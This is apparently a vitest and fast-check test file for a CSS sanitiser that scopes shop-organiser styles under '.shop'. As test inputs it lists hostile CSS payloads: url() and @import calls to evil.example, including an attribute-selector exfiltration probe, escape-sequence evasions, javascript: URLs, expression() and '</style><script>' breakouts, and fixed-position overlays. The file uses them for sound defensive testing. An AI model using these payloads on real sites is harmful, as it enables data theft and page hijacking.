import fc from 'fast-check'
import { expect, test } from 'vitest'
import { scopeCss } from './scope-css.ts'

test('POS-05 the organiser styles the shop: rules, media queries, custom properties and gradients come through, below the shop', () => {
  expect(scopeCss('.price, h1 > a:hover { color: #f00 !important; width: calc(100% - 2px) }')).toBe(
    '.shop .price,.shop h1>a:hover{color:#f00!important;width:calc(100% - 2px)}',
  )
  expect(scopeCss('@media (width < 600px) { .a { --size: 2rem; margin: var(--size) } }')).toBe(
    '@media (width<600px){.shop .a{--size:2rem;margin:var(--size)}}',
  )
  expect(scopeCss('.a { background: linear-gradient(#fff, rgb(0 0 0 / 10%)), url(/files/public/1/back.webp) }')).toContain(
    'url(/files/public/1/back.webp)',
  )
  expect(scopeCss('@keyframes turn { from { rotate: 0deg } to { rotate: 1turn } }')).toBe(
    '@keyframes turn{from{rotate:0deg}to{rotate:1turn}}',
  )
  expect(scopeCss('@supports (display: grid) { .a { display: grid } }')).toBe('@supports (display:grid){.shop .a{display:grid}}')
})

test('the page itself is the shop', () => {
  expect(scopeCss('body { margin: 0 }')).toBe('.shop{margin:0}')
  expect(scopeCss('html body .a, :root.dark > .b { color: red }')).toBe('.shop .a,.shop.dark>.b{color:red}')
  expect(scopeCss('* { color: red }')).toBe('.shop *{color:red}')
})

test.each([
  ['body + div { color: red }'],
  ['body ~ .consent { display: none }'],
  ['+ div { color: red }'],
  ['~ div { color: red }'],
  ['& + div { color: red }'],
])('nothing outside the shop can be reached: %s', (css) => {
  expect(scopeCss(css)).toBeNull()
})

test.each([
  ['@import url(https://evil.example/a.css);'],
  ['@import "//evil.example/a.css";'],
  ['@namespace url(http://evil.example);'],
  ['@font-face { font-family: x; src: url(https://evil.example/x.woff2) }'],
  ['.a { background: url(https://evil.example/x.png) }'],
  ['.a { background: url("//evil.example/x.png") }'],
  ['.a { background: URL( https://evil.example/x.png ) }'],
  ['.a { background: u\\72l(https://evil.example/x.png) }'],
  ['.a { background: url(/files/public/../../api/order) }'],
  ['.a { background: url(data:image/svg+xml,<svg/>) }'],
  ['.a { background: url(javascript:alert(1)) }'],
  ['.a { background: image-set("https://evil.example/x.png" 1x) }'],
  ['.a { background: -webkit-image-set(url(https://evil.example/x.png) 1x) }'],
  ['.a { background: src("https://evil.example/x.png") }'],
  ['.a { --x: url(https://evil.example/x.png) }'],
  ['.a { --x: {url(https://evil.example/x.png)} }'],
  ['.a { cursor: url(https://evil.example/c.cur), auto }'],
  ['input[value^="a"] { background: url(https://evil.example/a) }'],
  ['@media screen { .a { list-style: url(https://evil.example/x.png) } }'],
  ['@supports (background: url(https://evil.example/x)) { .a { color: red } }'],
  ['@layer a { .a { color: red } }'],
])('nothing is loaded from elsewhere: %s', (css) => {
  expect(scopeCss(css) ?? '').not.toMatch(/evil|import|data:|javascript|\.\.|@layer/i)
})

test.each([
  ['.a { position: fixed; inset: 0 }'],
  ['.a { position: absolute !important }'],
  ['.a { POSITION: FIXED }'],
  ['.a { position: sticky }'],
  ['.a { posi\\74ion: fixed }'],
  ['.a { position: f\\69xed }'],
  ['.a { --p: fixed; position: var(--p) }'],
  ['.a { position: -webkit-sticky }'],
  ['.a { *position: fixed }'],
  ['.a { color: red; .b { position: fixed } }'],
])('nothing is laid over the page: %s', (css) => {
  expect(scopeCss(css) ?? '').not.toMatch(/posi|sticky/i)
})

test.each([
  ['.a { width: expression(alert(1)) }'],
  ['.a { behavior: url(/files/public/x.htc) }'],
  ['.a { -moz-binding: url(/files/public/x.xml) }'],
  ['.a { _behavior: x }'],
  ['.a { filter: progid:DXImageTransform.Microsoft.Alpha(opacity=50) }'],
])('no script hides in a style: %s', (css) => {
  expect(scopeCss(css)).toBeNull()
})

test('the text cannot end its style element', () => {
  for (const css of [
    '.a::before { content: "</style><script>alert(1)</script>" }',
    '[title="</STYLE>"] { color: red }',
    '.a { color: red } </style><script>',
    '<!-- .a { color: red } -->',
  ]) {
    expect(scopeCss(css) ?? '').not.toMatch(/<[/!]/)
  }
})

test('whatever is written, the result can neither load, cover nor end its element', () => {
  const piece = fc.constantFrom(
    '.a',
    'body',
    ':root',
    '*',
    ' + ',
    ' ~ ',
    ' > ',
    ' ',
    ',',
    '{',
    '}',
    ';',
    '&',
    '@media screen',
    '@import',
    '@font-face',
    'position:',
    'fixed',
    'absolute',
    'color:red',
    'background:',
    'url(',
    'https://evil.example',
    ')',
    '"',
    "'",
    '\\',
    '/*',
    '*/',
    '</style>',
    '<!--',
    '--x:',
    'var(--x)',
    'image-set(',
    ':is(',
    '!important',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 24 }), (pieces) => {
      const css = scopeCss(pieces.join('')) ?? ''
      expect(css).not.toMatch(/<[/!]/)
      // What stands in a string is text, and does nothing.
      const outside = css.replaceAll(/"(?:[^"\\]|\\[^])*"/g, '""')
      expect(outside).not.toMatch(/@import|@font-face|url\(|image-set|position:(fixed|absolute)/i)
      if (css !== '') expect(css).toMatch(/^(\.shop|@media)/)
    }),
    { numRuns: 3000 },
  )
})

test('what someone else wrote before does not hang what is written now', () => {
  expect(scopeCss('{'.repeat(40))).toBeNull()
  expect(scopeCss('{{}}}--x:{}')).toBeNull()
  expect(scopeCss('.a{color:red}')).toBe('.shop .a{color:red}')
})

test('broken and endless text is left out, not fatal', () => {
  expect(scopeCss(null)).toBeNull()
  expect(scopeCss('')).toBeNull()
  expect(scopeCss('}}}{{{;;;@@@')).toBeNull()
  expect(scopeCss('.a { color: red')).toBe('.shop .a{color:red}')
  expect(scopeCss('.a{color:red}'.repeat(10_000))).toBeNull()
})
